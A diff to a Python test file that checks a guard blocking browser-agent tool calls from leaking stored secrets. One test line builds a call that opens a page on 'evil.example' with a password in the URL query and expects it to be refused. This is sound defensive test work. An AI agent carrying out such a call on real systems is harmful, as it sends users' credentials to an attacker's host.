@@ -129,4 +129,9 @@ def test_refusals_that_need_no_page() -> None:
     with pytest.raises(SecretNotAllowed):  # recognised by value too: a plan's step arrives substituted
         check_call(store, _call(store, "tabs_create", {"url": "https://evil.example/?k=pw-123456"}))
     check_call(store, _call(store, "find", {"query": "${SECRET:FREE}"}))  # unbound: as before
-    check_call(store, _call(store, "form_input", {"query": "Password", "value": "${SECRET:PASS}"}))  # handler's
+    for tool, args in (  # these check where it goes once they know the frame, page or step
+        ("form_input", {"query": "Password", "value": "${SECRET:PASS}"}),
+        ("execute_plan", {"steps": [{"tool": "form_input", "args": {"value": "${SECRET:PASS}"}}]}),
+        ("oc_skill_replay", {"skill_id": "sk", "params": {"pw": "${SECRET:PASS}"}}),
+    ):
+        check_call(store, _call(store, tool, args))
